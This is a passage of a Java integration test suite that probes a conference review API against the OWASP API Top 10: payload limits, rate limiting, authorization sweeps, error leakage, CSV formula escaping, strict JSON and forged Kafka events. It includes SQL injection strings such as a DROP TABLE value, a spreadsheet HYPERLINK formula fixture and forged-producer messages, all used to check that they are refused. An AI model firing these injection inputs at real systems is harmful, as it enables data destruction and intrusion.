                    + "' }.matches.certainty").stream().distinct().toList(), key);
        }
        assertEquals(List.of("NAME_WITH_INITIAL"),
                flags.getList("flags.find { it.proposalId == '" + ids.get("initial") + "' }.matches.kind"));
        assertEquals(List.of("UNCERTAIN"),
                flags.getList("flags.find { it.proposalId == '" + ids.get("initial") + "' }.matches.certainty"));
        assertEquals(List.of("NAME_PART"),
                flags.getList("flags.find { it.proposalId == '" + ids.get("alone") + "' }.matches.kind"));
        assertEquals(List.of("UNCERTAIN"),
                flags.getList("flags.find { it.proposalId == '" + ids.get("alone") + "' }.matches.certainty"));
        // Uncertain findings are not masked blindly: they may name someone else.
        assertEquals("As Y. Quarrington showed", seen.get("initial"));
    }

    /** A UUIDv7 as submission-service makes them: 48 bits of Unix milliseconds first. */
    static UUID uuidV7(Instant at) {
        java.util.concurrent.ThreadLocalRandom random = java.util.concurrent.ThreadLocalRandom.current();
        long high = (at.toEpochMilli() << 16) | 0x7000L | (random.nextLong() & 0x0FFFL);
        long low = (random.nextLong() & 0x3FFFFFFFFFFFFFFFL) | 0x8000000000000000L;
        return new UUID(high, low);
    }

    // ---- API4: unrestricted resource consumption ---------------------------------------------------------

    @Test
    void api4_oversizedNestedAndBadlyEncodedBodiesAreRefusedWithProblemsNot500() {
        Scenario s = Scenario.create("api4-limits");
        String ra = s.token("ra");
        String path = "/api/me/reviews/" + s.ref("ra", s.p1);
        String huge = "{\"comment\":\"" + "x".repeat(2 * 1024 * 1024) + "\"}";
        given().header("Authorization", ra).contentType("application/json").body(huge).put(path)
                .then().statusCode(413).contentType(PROBLEM).body("code", equalTo("payload-too-large"));
        given().header("Authorization", ra).header("Accept-Language", "zh").contentType("application/json").body(huge)
                .put("/api/events/" + s.slug + "/review-settings")
                .then().statusCode(413).contentType(PROBLEM).body("title", equalTo("请求体过大"));

        String nested = "[".repeat(5000) + "]".repeat(5000);
        // Typed bodies stop at the first token of the wrong type; the mapper's depth limit is behind that.
        given().header("Authorization", ra).contentType("application/json").body("{\"comment\":" + nested + "}").put(path)
                .then().statusCode(400).contentType(PROBLEM)
                .body("code", org.hamcrest.Matchers.oneOf("json-too-complex", "validation-failed"));
        assertThrows(StreamConstraintsException.class, () -> mapper.readTree("{\"a\":" + "[".repeat(40) + "]".repeat(40) + "}"));
        given().header("Authorization", organizer()).contentType("application/json")
                .body("{\"criteria\":" + nested + "}").put("/api/events/" + s.slug + "/review-settings")
                // Refused as too deep, or earlier as the wrong type: never parsed to the bottom, never a 500.
                .then().statusCode(400).contentType(PROBLEM)
                .body("code", org.hamcrest.Matchers.oneOf("json-too-complex", "validation-failed"));

        // Otherwise a valid review: if the bad bytes were silently replaced, it would be stored (200).
        byte[] latin1 = "{\"comment\":\"bad \u00ff\u00fe bytes\",\"scores\":{\"relevance\":3,\"clarity\":3},\"confidence\":3}"
                .getBytes(StandardCharsets.ISO_8859_1);
        given().header("Authorization", ra).contentType("application/json; charset=UTF-8").body(latin1).put(path)
                .then().statusCode(400).contentType(PROBLEM)
                .body("code", org.hamcrest.Matchers.oneOf("invalid-utf8", "invalid-json"));

        Map<String, Integer> tooManyScores = new HashMap<>();
        for (int i = 0; i < 51; i++) {
            tooManyScores.put("c" + i, 1);
        }
        given().header("Authorization", ra).contentType("application/json")
                .body(Map.of("scores", tooManyScores, "confidence", 3)).put(path)
                .then().statusCode(400).contentType(PROBLEM).body("errors[0].field", equalTo("scores"));
        given().header("Authorization", ra).contentType("application/json")
                .body(Map.of("scores", Map.of("relevance", 3, "clarity", 3), "confidence", 3, "comment", "长".repeat(20001)))
                .put(path).then().statusCode(400).contentType(PROBLEM).body("errors[0].field", equalTo("comment"));
        given().header("Authorization", ra).contentType("application/json")
                .body("{\"scores\":{\"relevance\":1" + "0".repeat(200) + ",\"clarity\":3},\"confidence\":3}").put(path)
                .then().statusCode(400).contentType(PROBLEM);
        // Nothing was half-written.
        given().header("Authorization", ra).get("/api/me/assignments/" + s.ref("ra", s.p1)).then().statusCode(200).body("review", nullValue());
    }

    @Test
    void api4_junkAndFailingTokensCountAgainstTheAddressLikeNoToken() {
        int port = io.restassured.RestAssured.port;
        long now = Instant.now().getEpochSecond();
        String expired = "Bearer " + TestInfrastructure.tokens().sign("{\"alg\":\"RS256\",\"typ\":\"JWT\"}",
                claims(Tokens.ISSUER, Tokens.AUDIENCE, now - 7200, now - 3600, null));
        Map<String, String> failing = new LinkedHashMap<>();
        failing.put("127.0.0.2", "Bearer junk");
        failing.put("127.0.0.3", expired);
        for (Map.Entry<String, String> attacker : failing.entrySet()) {
            LoopbackClient client = new LoopbackClient(attacker.getKey(), port);
            Map<String, String> headers = Map.of("Authorization", attacker.getValue());
            int unauthenticated = 0;
            LoopbackClient.Answer answer = client.get("/api/me/assignments", headers);
            while (answer.status() == 401 && unauthenticated < 4 * ANONYMOUS_BURST) {
                unauthenticated++;
                answer = client.get("/api/me/assignments", headers);
            }
            assertEquals(429, answer.status(), attacker.getValue() + " after " + unauthenticated + ": " + answer.body());
            assertTrue(unauthenticated >= ANONYMOUS_BURST / 2, "limited after " + unauthenticated);
            assertTrue(answer.header("Content-Type").startsWith(PROBLEM), answer.headers().toString());
            assertNotNull(answer.header("Retry-After"));
            // The same address without a token is in the same bucket; a signed-in caller from it is not.
            assertEquals(429, client.get("/api/me/assignments", Map.of()).status());
            assertEquals(200, client.get("/api/me/assignments",
                    Map.of("Authorization", bearer("r-" + UUID.randomUUID() + "@reviewers.test", "reviewer:none"))).status());
        }
    }

    // ---- API5: broken function level authorization -------------------------------------------------------

    @Test
    void api5_everyRouteRefusesTheAnonymousTheSpeakerTheWrongRoleAndTheOrganizerOfAnotherEvent() throws IOException {
        Scenario s = Scenario.create("api5-bfla");
        String speaker = bearer("speaker-" + s.slug + "@speaker.test", "speaker");
        String reviewerHere = s.token("ra");
        String organizerElsewhere = bearer("org@" + s.slug, "organizer:" + s.slug + "-elsewhere");
        String reviewerElsewhere = bearer("multi@" + s.slug, "reviewer:" + s.slug + "-elsewhere");
        Set<String> operations = served();
        assertTrue(operations.size() >= 25, operations.toString());
        int organizerRoutes = 0;
        for (String operation : operations) {
            String[] parts = operation.split(" ", 2);
            String path = parts[1].replace("{event}", s.slug).replace("{id}", s.p1).replace("{proposalId}", s.p1);
            boolean reviewerRoute = parts[1].startsWith("/api/me/");
            Object body = validBody(operation, s);
            expect(parts[0], path, null, body, 401, operation);
            expect(parts[0], path, speaker, body, 403, operation);
            if (body != null) {
                // Who calls is decided before the body is read: an invalid one gets no 400 from them.
                expect(parts[0], path, null, Map.of(), 401, operation);
                expect(parts[0], path, speaker, "{\"unknown\": [", 403, operation);
            }
            if (reviewerRoute) {
                expect(parts[0], path, organizer(), body, 403, operation);
                expect(parts[0], path, organizerElsewhere, body, 403, operation);
            } else {
                organizerRoutes++;
                expect(parts[0], path, reviewerHere, body, 403, operation);
                expect(parts[0], path, organizerElsewhere, body, 403, operation);
                expect(parts[0], path, reviewerElsewhere, body, 403, operation);
            }
        }
        assertTrue(organizerRoutes >= 20, "organizer routes swept: " + organizerRoutes);
        // The refusals changed nothing: no reviewer, assignment or settings change came through.
        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/reviewers")
                .then().statusCode(200).body("size()", equalTo(3));
        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/assignments")
                .then().statusCode(200).body("size()", equalTo(s.assignmentIds.size()));
        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/review-settings")
                .then().statusCode(200).body("reviewsPerProposal", equalTo(2));
    }

    private static void expect(String method, String path, String token, Object body, int status, String operation) {
        var request = given();
        if (token != null) {
            request = request.header("Authorization", token);
        }
        if (body != null) {
            request = request.contentType("application/json").body(body);
        }
        Response response = request.request(method, path);
        assertEquals(status, response.statusCode(), operation + " as " + (token == null ? "anonymous" : "caller")
                + ": " + response.asString());
        assertTrue(response.contentType().startsWith(PROBLEM), operation + ": " + response.contentType());
    }

    /** A body each write operation would accept from the right caller, so a refusal is about who calls. */
    private static Object validBody(String operation, Scenario s) {
        return switch (operation) {
            case "PUT /api/events/{event}/review-settings" -> settings(1, "OPEN");
            case "POST /api/events/{event}/reviewers", "PUT /api/events/{event}/reviewers/{id}" ->
                    s.reviewerBody("rd", List.of());
            case "POST /api/events/{event}/assignments/manual" ->
                    Map.of("proposalId", s.p2, "reviewerId", s.reviewerIds.get("ra"));
            case "PUT /api/events/{event}/proposals/{id}/redaction" -> Map.of("title", "A talk", "abstract", "An abstract");
            case "POST /api/events/{event}/selection" -> Map.of("capacity", Map.of("tracks", Map.of("ospo-experience", 1)));
            case "PUT /api/me/reviews/{proposalId}" -> review(3, 3, "ok");
            default -> null;
        };
    }

    // ---- API6: unrestricted access to sensitive business flows -------------------------------------------

    @Test
    void api6_reviewersCannotChooseWhatTheyReviewNorSelectOrPublishAndClosedReviewsStayClosed() {
        Scenario s = Scenario.create("api6-flows");
        String rc = s.token("rc");
        // rc would like to review p1 (not assigned): neither the manual assignment nor a review gets through.
        given().header("Authorization", rc).contentType("application/json")
                .body(Map.of("proposalId", s.p1, "reviewerId", s.reviewerIds.get("rc")))
                .post("/api/events/" + s.slug + "/assignments/manual").then().statusCode(403);
        given().header("Authorization", rc).contentType("application/json").body(review(5, 5, "mine now"))
                .put("/api/me/reviews/" + s.ref("rc", s.p1)).then().statusCode(404);
        given().header("Authorization", rc).post("/api/events/" + s.slug + "/assignments").then().statusCode(403);
        given().header("Authorization", rc).contentType("application/json")
                .body(Map.of("capacity", Map.of("tracks", Map.of("ospo-experience", 3))))
                .post("/api/events/" + s.slug + "/selection").then().statusCode(403);
        given().header("Authorization", rc).post("/api/events/" + s.slug + "/decisions/publish").then().statusCode(403);
        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/assignments")
                .then().statusCode(200).body("findAll { it.reviewerId == '" + s.reviewerIds.get("rc") + "' }.proposalId",
                        equalTo(List.of(s.p3)));

        // Once the organizer closes the phase, a review cannot be written or changed.
        given().header("Authorization", rc).contentType("application/json").body(review(4, 4, "before closing"))
                .put("/api/me/reviews/" + s.ref("rc", s.p3)).then().statusCode(200);
        given().header("Authorization", organizer()).contentType("application/json").body(settings(2, "CLOSED"))
                .put("/api/events/" + s.slug + "/review-settings").then().statusCode(200);
        given().header("Authorization", rc).contentType("application/json").body(review(1, 1, "after closing"))
                .put("/api/me/reviews/" + s.ref("rc", s.p3)).then().statusCode(409).contentType(PROBLEM);
        given().header("Authorization", rc).get("/api/me/assignments/" + s.ref("rc", s.p3)).then().statusCode(200)
                .body("review.comment", equalTo("before closing"));
    }

    // ---- API8: security misconfiguration -----------------------------------------------------------------

    @Test
    void api8_errorBodiesNeverCarryStackTracesClassNamesOrSql() {
        Scenario s = Scenario.create("api8-errors");
        String ra = s.token("ra");
        List<Response> errors = new ArrayList<>();
        for (String language : List.of("en", "zh")) {
            errors.add(given().header("Authorization", ra).header("Accept-Language", language).contentType("application/json")
                    .body("{\"scores\": ").put("/api/me/reviews/" + s.ref("ra", s.p1)));
            errors.add(given().header("Authorization", ra).header("Accept-Language", language).contentType("application/json")
                    .body("{\"scores\":\"many\",\"confidence\":\"high\"}").put("/api/me/reviews/" + s.ref("ra", s.p1)));
            errors.add(given().header("Authorization", ra).header("Accept-Language", language).contentType("application/json")
                    .body("{\"scores\":{\"relevance\":1.5},\"confidence\":3}").put("/api/me/reviews/" + s.ref("ra", s.p1)));
            errors.add(given().header("Authorization", ra).header("Accept-Language", language).contentType("text/plain")
                    .body("scores=5").put("/api/me/reviews/" + s.ref("ra", s.p1)));
            errors.add(given().header("Authorization", ra).header("Accept-Language", language)
                    .get("/api/me/assignments/not-a-uuid"));
            errors.add(given().header("Authorization", ra).header("Accept-Language", language)
                    .get("/api/me/assignments/'%20OR%201=1--"));
            errors.add(given().header("Authorization", ra).header("Accept-Language", language)
                    .delete("/api/me/assignments"));
            errors.add(given().header("Authorization", organizer()).header("Accept-Language", language)
                    .get("/api/events/" + s.slug + "/ranking?key=' OR 1=1 --"));
            errors.add(given().header("Authorization", organizer()).header("Accept-Language", language)
                    .get("/api/events/" + s.slug + "/ranking?format=xlsx"));
            errors.add(given().header("Authorization", organizer()).header("Accept-Language", language)
                    .contentType("application/json").body(Map.of("criteria", List.of(), "reviewsPerProposal", 0, "phase", "HALF_OPEN"))
                    .put("/api/events/" + s.slug + "/review-settings"));
            errors.add(given().header("Authorization", organizer()).header("Accept-Language", language)
                    .contentType("application/json").body(Map.of("proposalId", "x'; DROP TABLE review; --", "reviewerId", s.reviewerIds.get("ra")))
                    .post("/api/events/" + s.slug + "/assignments/manual"));
            errors.add(given().header("Authorization", organizer()).header("Accept-Language", language)
                    .contentType("application/json").body(Map.of("proposalId", s.p1, "reviewerId", s.reviewerIds.get("ra")))
                    .post("/api/events/" + s.slug + "/assignments/manual"));
            errors.add(given().header("Authorization", organizer()).header("Accept-Language", language)
                    .get("/api/events/" + s.slug + "'--/ranking"));
        }
        for (Response error : errors) {
            String body = error.asString();
            assertTrue(error.statusCode() >= 400 && error.statusCode() < 500, error.statusCode() + ": " + body);
            assertTrue(error.contentType().startsWith(PROBLEM), error.contentType() + ": " + body);
            for (String internal : List.of("Exception", "exception", "java.", "jakarta.", "org.hibernate", "jackson",
                    "at dev.lectern", "\tat ", "SELECT ", "INSERT ", "constraint", "postgres", "SQL", "psql", "quarkus")) {
                assertFalse(body.contains(internal), "'" + internal + "' in " + body);
            }
            assertNotNull(JsonPath.from(body).getString("title"), body);
        }
        assertTrue(errors.stream().anyMatch(r -> r.statusCode() == 409), "the repeat assignment is a 409 too");
    }

    @Test
    void api8_theRankingCsvExportOpensFormulasAsText() {
        Scenario s = Scenario.create("api8-csv");
        s.reviewEverything();
        for (String format : List.of("?format=csv", "?format=csv&identities=true")) {
            String csv = given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/ranking" + format)
                    .then().statusCode(200).contentType(startsWith("text/csv")).extract().asString();
            String row = csv.lines().filter(line -> line.contains(s.p1)).findFirst().orElseThrow();
            assertTrue(row.contains(",\"'=HYPERLINK("), "the title cell starts with a quote: " + row);
            for (String cell : cells(csv)) {
                String value = cell.startsWith("\"") ? cell.substring(1) : cell;
                assertFalse(value.startsWith("=") || value.startsWith("+") || value.startsWith("@"),
                        "a cell a spreadsheet would evaluate: " + cell + " in " + csv);
            }
        }
        String selection = given().header("Authorization", organizer()).contentType("application/json")
                .body(Map.of("capacity", Map.of("tracks", Map.of("ospo-experience", 1, "compliance-legal", 1))))
                .post("/api/events/" + s.slug + "/selection").then().statusCode(200).extract().asString();
        assertTrue(selection.contains(s.p1), selection);
        String decisions = given().header("Authorization", organizer()).accept("text/csv")
                .get("/api/events/" + s.slug + "/selection").then().statusCode(200).contentType(startsWith("text/csv"))
                .extract().asString();
        assertTrue(decisions.contains(",\"'=HYPERLINK("), decisions);
        assertNoIdentity(List.of(decisions), s.identities());
    }

    // ---- API9: improper inventory management -------------------------------------------------------------

    @Test
    void api9_everyServedRouteIsInTheOpenApiDocumentAndNoUndocumentedOneAnswers() throws IOException {
        Set<String> served = served();
        JsonPath document = given().queryParam("format", "json").get("/q/openapi").then().statusCode(200).extract().jsonPath();
        Set<String> documented = new TreeSet<>();
        Map<String, Map<String, Object>> paths = document.getMap("paths");
        paths.forEach((path, item) -> item.keySet().stream()
                .filter(m -> Set.of("get", "put", "post", "delete", "patch").contains(m))
                .forEach(m -> documented.add(m.toUpperCase(Locale.ROOT) + " " + path)));
        documented.removeIf(operation -> operation.contains(" /q/"));
        assertEquals(served, documented);
        // Old or guessed paths are not served.
        for (String path : List.of("/api/v0/events/x/ranking", "/api/admin", "/api/events/x/reviews", "/api/reviews")) {
            given().header("Authorization", organizer()).get(path).then().statusCode(404).contentType(PROBLEM);
        }
    }

    @Test
    void api8_aMalformedAcceptLanguageMeansEnglishOnEveryErrorPath() {
        String slug = "api8-lang-" + UUID.randomUUID().toString().substring(0, 8);
        String reviewer = bearer("r-" + slug + "@reviewers.test", "reviewer:" + slug);
        String unknown = UUID.randomUUID().toString();
        Map<Integer, java.util.function.Function<String, Response>> errors = new LinkedHashMap<>();
        errors.put(401, language -> given().header("Accept-Language", language).get("/api/me/assignments"));
        errors.put(404, language -> given().header("Accept-Language", language).header("Authorization", reviewer)
                .get("/api/me/assignments/" + unknown));
        errors.put(400, language -> given().header("Accept-Language", language).header("Authorization", reviewer)
                .contentType("application/json").body("{\"comment\": ").put("/api/me/reviews/" + unknown));
        errors.put(403, language -> given().header("Accept-Language", language).header("Authorization", reviewer)
                .get("/api/events/" + slug + "/ranking"));
        for (Map.Entry<Integer, java.util.function.Function<String, Response>> error : errors.entrySet()) {
            String english = error.getValue().apply("en").then().statusCode(error.getKey()).extract().path("title");
            String chinese = error.getValue().apply("zh").then().statusCode(error.getKey()).extract().path("title");
            assertFalse(english.equals(chinese), english);
            for (String language : List.of("zh;q=1.5", "*;q=abc", "zh;q=", "zh-CN;q=0.9;q=0.8", ";;;,,", "x".repeat(300))) {
                Response answer = error.getValue().apply(language);
                assertEquals((int) error.getKey(), answer.statusCode(), language + ": " + answer.asString());
                assertTrue(answer.contentType().startsWith(PROBLEM), language + ": " + answer.contentType() + " " + answer.asString());
                assertEquals(english, answer.jsonPath().getString("title"), language);
            }
        }
        given().header("Accept-Language", "*;q=abc").header("Authorization", "Bearer junk").get("/api/me/assignments")
                .then().statusCode(401).contentType(PROBLEM).body("title", equalTo("Sign-in required"));
    }

    @Test
    void api8_jsonIsReadStrictlyAndEachLeniencyIsA400NamingTheField() {
        Scenario s = Scenario.create("api8-strict");
        String ra = s.token("ra");
        String path = "/api/me/reviews/" + s.ref("ra", s.p1);
        String review = "{\"scores\":{\"relevance\":3,\"clarity\":3},\"confidence\":3,\"comment\":\"fine\"}";

        given().header("Authorization", ra).contentType("application/json").body(review + " {\"comment\":\"again\"}").put(path)
                .then().statusCode(400).contentType(PROBLEM).body("code", equalTo("validation-failed"));
        given().header("Authorization", ra).contentType("application/json").body(review + "garbage").put(path)
                .then().statusCode(400).contentType(PROBLEM);
        given().header("Authorization", ra).contentType("application/json")
                .body("{\"comment\":\"first\"," + review.substring(1)).put(path)
                .then().statusCode(400).contentType(PROBLEM)
                .body("errors[0].field", equalTo("comment")).body("errors[0].code", equalTo("duplicate"));
        given().header("Authorization", ra).contentType("application/json")
                .body(review.replace("\"fine\"", "123")).put(path)
                .then().statusCode(400).contentType(PROBLEM)
                .body("errors[0].field", equalTo("comment")).body("errors[0].code", equalTo("wrong-type"));
        given().header("Authorization", ra).contentType("application/json")
                .body(review.replace("\"confidence\":3", "\"confidence\":2.5")).put(path)
                .then().statusCode(400).contentType(PROBLEM)
                .body("errors[0].field", equalTo("confidence")).body("errors[0].code", equalTo("wrong-type"));
        given().header("Authorization", ra).contentType("application/json")
                .body(review.replace("\"fine\"", "\"lone \\ud800 half\"")).put(path)
                .then().statusCode(400).contentType(PROBLEM)
                .body("errors[0].field", equalTo("comment")).body("errors[0].code", equalTo("invalid-character"));
        given().header("Authorization", organizer()).contentType("application/json")
                .body(Map.of("criteria", ((List<?>) settings(2, "OPEN").get("criteria")), "reviewsPerProposal", 2.5))
                .put("/api/events/" + s.slug + "/review-settings")
                .then().statusCode(400).contentType(PROBLEM)
                .body("errors[0].field", equalTo("reviewsPerProposal")).body("errors[0].code", equalTo("wrong-type"));
        // A body without a Content-Type header at all (RestAssured would add one): 415, not a guess.
        LoopbackClient.Answer untyped = new LoopbackClient("127.0.0.1", io.restassured.RestAssured.port)
                .send("PUT", path, Map.of("Authorization", ra), review);
        assertEquals(415, untyped.status(), untyped.body());
        assertTrue(untyped.header("Content-Type").startsWith(PROBLEM), untyped.headers().toString());
        assertTrue(untyped.body().contains("unsupported-media-type"), untyped.body());
        // None of it was taken.
        given().header("Authorization", ra).get("/api/me/assignments/" + s.ref("ra", s.p1)).then().statusCode(200).body("review", nullValue());
        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/review-settings").then().statusCode(200)
                .body("reviewsPerProposal", equalTo(2));
    }

    @Test
    void api8_aNulCharacterIsAFieldErrorInEveryBodyQueryAndPathNeverA500() {
        Scenario s = Scenario.create("api8-nul");
        String ra = s.token("ra");
        String base = "/api/events/" + s.slug;
        nulRefused(given().header("Authorization", ra).contentType("application/json")
                .body(review(3, 3, "good\u0000bad")).put("/api/me/reviews/" + s.ref("ra", s.p1)), "comment");
        Response key = given().header("Authorization", ra).contentType("application/json")
                .body(Map.of("scores", Map.of("relevance", 3, "clar\u0000ity", 3), "confidence", 3)).put("/api/me/reviews/" + s.ref("ra", s.p1));
        assertEquals(400, key.statusCode(), key.asString());
        assertEquals("nul-character", key.jsonPath().getString("errors[0].code"), key.asString());

        Map<String, Object> reviewer = new HashMap<>(s.reviewerBody("rd", List.of()));
        reviewer.put("name", "Reviewer\u0000rd");
        nulRefused(given().header("Authorization", organizer()).contentType("application/json").body(reviewer)
                .post(base + "/reviewers"), "name");
        Map<String, Object> conflicts = new HashMap<>(s.reviewerBody("ra", List.of("x\u0000@speaker.test")));
        nulRefused(given().header("Authorization", organizer()).contentType("application/json").body(conflicts)
                .put(base + "/reviewers/" + s.reviewerIds.get("ra")), "conflicts[0]");
        Map<String, Object> criterion = Map.of("key", "relevance", "name", Map.of("en", "Rele\u0000vance"),
                "weight", 1, "min", 1, "max", 5);
        nulRefused(given().header("Authorization", organizer()).contentType("application/json")
                .body(Map.of("criteria", List.of(criterion), "reviewsPerProposal", 2)).put(base + "/review-settings"),
                "criteria[0].name.en");
        nulRefused(given().header("Authorization", organizer()).contentType("application/json")
                .body(Map.of("title", "Redacted\u0000", "abstract", "Redacted")).put(base + "/proposals/" + s.p1 + "/redaction"),
                "title");

        Map<String, String> queries = new LinkedHashMap<>();
        queries.put(base + "/ranking?key=a%00b", "key");
        queries.put(base + "/ranking?track=%00", "track");
        queries.put(base + "/proposals?track=%00", "track");
        queries.put(base + "/selection?format=%00", "format");
        queries.put("/api/me/assignments?event=%00", "event");
        queries.forEach((query, parameter) -> nulRefused(given().header("Authorization", query.startsWith("/api/me") ? ra : organizer())
                .urlEncodingEnabled(false).get(query), parameter));
        for (String path : List.of("/api/events/%00/ranking", "/api/events/a%00b/reviewers", "/api/events/%00/review-settings",
                base + "/proposals/%00", "/api/me/assignments/%00")) {
            Response answer = given().header("Authorization", path.startsWith("/api/me") ? ra : organizer())
                    .urlEncodingEnabled(false).get(path);
            assertEquals(400, answer.statusCode(), path + ": " + answer.asString());
            assertTrue(answer.contentType().startsWith(PROBLEM), path + ": " + answer.contentType());
            assertEquals("nul-character", answer.jsonPath().getString("errors[0].code"), path + ": " + answer.asString());
        }
        // Nothing was stored by any of it.
        given().header("Authorization", ra).get("/api/me/assignments/" + s.ref("ra", s.p1)).then().statusCode(200).body("review", nullValue());
        given().header("Authorization", organizer()).get(base + "/reviewers").then().statusCode(200).body("size()", equalTo(3));
        given().header("Authorization", organizer()).get(base + "/review-settings").then().statusCode(200)
                .body("criteria[0].name.en", equalTo("Relevance"));
    }

    private static void nulRefused(Response answer, String field) {
        String body = answer.asString();
        assertEquals(400, answer.statusCode(), field + ": " + body);
        assertTrue(answer.contentType().startsWith(PROBLEM), field + ": " + answer.contentType());
        assertEquals(field, answer.jsonPath().getString("errors[0].field"), body);
        assertEquals("nul-character", answer.jsonPath().getString("errors[0].code"), body);
    }

    // ---- API10: unsafe consumption of APIs ---------------------------------------------------------------

    @Test
    void api10_malformedOrForgedProposalEventsAreDeadLetteredAndNeverReachReviewers() {
        Scenario s = Scenario.create("api10-stream");
        String forged = UUID.randomUUID().toString();
        String broken = UUID.randomUUID().toString();
        String valid = UUID.randomUUID().toString();
        Stream.send("cfp.proposals", broken, "dev.lectern.proposal.submitted.v1", "{\"id\":\"" + broken + "\",\"title\":");
        Stream.send("cfp.proposals", forged, "dev.lectern.proposal.submitted.v1",
                Stream.proposalJson(forged, s.slug, 1, "HACKED", "Forged", "ospo-experience", "[]"));
        Stream.proposal("submitted", valid, s.slug, 1, "SUBMITTED", "After the bad ones", "ospo-experience",
                List.of(Map.of("name", "Later Speaker", "email", "later@speaker.test", "affiliation", "Later Org")));
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/proposals/" + valid)
                        .then().statusCode(200));
        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/proposals/" + forged).then().statusCode(404);
        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/proposals/" + broken).then().statusCode(404);
        Map<String, String> reasons = new HashMap<>();
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> {
            reasons.putAll(deadLetters(Set.of(forged, broken)));
            assertEquals(Set.of(forged, broken), reasons.keySet(), reasons.toString());
        });
        assertTrue(reasons.get(forged).contains("HACKED"), reasons.toString());
        for (String reason : reasons.values()) {
            assertFalse(reason.isBlank());
        }
    }

    /**
     * Anyone who can write to cfp.proposals could otherwise put a proposal in front of reviewers or mark one
     * accepted: only the configured producers (lectern.kafka.allowed-sources) count.
     */
    @Test
    void api10_proposalEventsFromAProducerNotAllowedAreDeadLetteredWithTheReason() {
        Scenario s = Scenario.create("api10-source");
        String foreign = UUID.randomUUID().toString();
        String valid = UUID.randomUUID().toString();
        Stream.send(UUID.randomUUID().toString(), "cfp.proposals", foreign, "dev.lectern.proposal.submitted.v1",
                Stream.proposalJson(foreign, s.slug, 1, "SUBMITTED", "Planted", "ospo-experience",
                        "[{\"name\":\"M\",\"email\":\"m@example.com\",\"affiliation\":\"\",\"bio\":\"\"}]"),
                "/mallory");
        Stream.proposal("submitted", valid, s.slug, 1, "SUBMITTED", "After the foreign one", "ospo-experience",
                List.of(Map.of("name", "Later Speaker", "email", "later@speaker.test", "affiliation", "Later Org")));
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/proposals/" + valid)
                        .then().statusCode(200));
        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/proposals/" + foreign).then().statusCode(404);
        Map<String, String> reasons = new HashMap<>();
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> {
            reasons.putAll(deadLetters(Set.of(foreign)));
            assertEquals(Set.of(foreign), reasons.keySet(), reasons.toString());
        });
        assertTrue(reasons.get(foreign).contains("ce_source '/mallory'"), reasons.toString());
    }

    @Test
    void api10_aProposalEventWhoseIdIsTooLongIsDeadLetteredWithAReasonThatQuotesNoSql() {
        String slug = "api10-long-id-" + UUID.randomUUID().toString().substring(0, 8);
        Stream.event(slug, 1);
        String proposal = UUID.randomUUID().toString();
        String valid = UUID.randomUUID().toString();
        Stream.proposal("x".repeat(201), "submitted", proposal, slug, 1, "SUBMITTED", "A long id", "ospo-experience",
                List.of(Map.of("name", "Long Id", "email", "long@speaker.test", "affiliation", "Org")));
        Stream.proposal("submitted", valid, slug, 1, "SUBMITTED", "After the long id", "ospo-experience",
                List.of(Map.of("name", "Later Speaker", "email", "later@speaker.test", "affiliation", "Later Org")));
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                given().header("Authorization", organizer()).get("/api/events/" + slug + "/proposals/" + valid)
                        .then().statusCode(200));
        given().header("Authorization", organizer()).get("/api/events/" + slug + "/proposals/" + proposal).then().statusCode(404);
        Map<String, String> reasons = new HashMap<>();
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> {
            reasons.putAll(deadLetters(Set.of(proposal)));
            assertEquals(Set.of(proposal), reasons.keySet(), reasons.toString());
        });
        String reason = reasons.get(proposal);
        assertTrue(reason.contains("ce_id"), reason);
        for (String database : List.of("SQL", "sql", "insert", "INSERT", "varchar", "character varying", "ERROR:",
                "processed_message", "Hibernate", "Exception", "constraint")) {
            assertFalse(reason.contains(database), "'" + database + "' in " + reason);
        }
    }

    private static Map<String, String> deadLetters(Set<String> keys) {
        Properties properties = new Properties();
        properties.put(ConsumerConfig.BOOTSTRAP_SERVERS_CONFIG, TestInfrastructure.kafkaBootstrapServers());
        properties.put(ConsumerConfig.GROUP_ID_CONFIG, "owasp-test-" + UUID.randomUUID());
        properties.put(ConsumerConfig.AUTO_OFFSET_RESET_CONFIG, "earliest");
        Map<String, String> found = new HashMap<>();
        try (KafkaConsumer<String, String> consumer = new KafkaConsumer<>(properties, new StringDeserializer(), new StringDeserializer())) {
            consumer.subscribe(List.of("cfp.proposals.dlq"));
            Instant deadline = Instant.now().plusSeconds(10);
            while (Instant.now().isBefore(deadline) && !found.keySet().containsAll(keys)) {
                for (ConsumerRecord<String, String> record : consumer.poll(Duration.ofMillis(500))) {
                    if (keys.contains(record.key())) {
                        Header reason = record.headers().lastHeader("dead-letter-reason");
                        found.put(record.key(), reason == null ? "" : new String(reason.value(), StandardCharsets.UTF_8));
                    }
                }
            }
        }
        return found;
    }

    // ---- fixtures ----------------------------------------------------------------------------------------

    /**
     * An event in review: three reviewers (ra, rb, rc, each from their own university) and three proposals by
     * speakers with telling names, emails and affiliations; p1's title is a spreadsheet formula, p2's title names
     * its speaker and their organisation. Assigned by hand: p1 to ra and rb, p2 to rb, p3 to rc and ra.
     */
    static final class Scenario {

        static final List<Map<String, String>> SPEAKERS = List.of(
                Map.of("name", "Wang Xiaoming", "email", "wang.xiaoming@speaker.test", "affiliation", "Secretive Corp Ltd."),
                Map.of("name", "Zhao Lihua", "email", "zhao.lihua@speaker.test", "affiliation", "北方研究院"),
                Map.of("name", "Qian Duoduo", "email", "qian.duoduo@speaker.test", "affiliation", "Quiet Holdings"));

        final String slug;
        final String p1 = UUID.randomUUID().toString();
        final String p2 = UUID.randomUUID().toString();
        final String p3 = UUID.randomUUID().toString();
        final Map<String, String> reviewerIds = new HashMap<>();
        final List<String> assignmentIds = new ArrayList<>();

        private Scenario(String slug) {
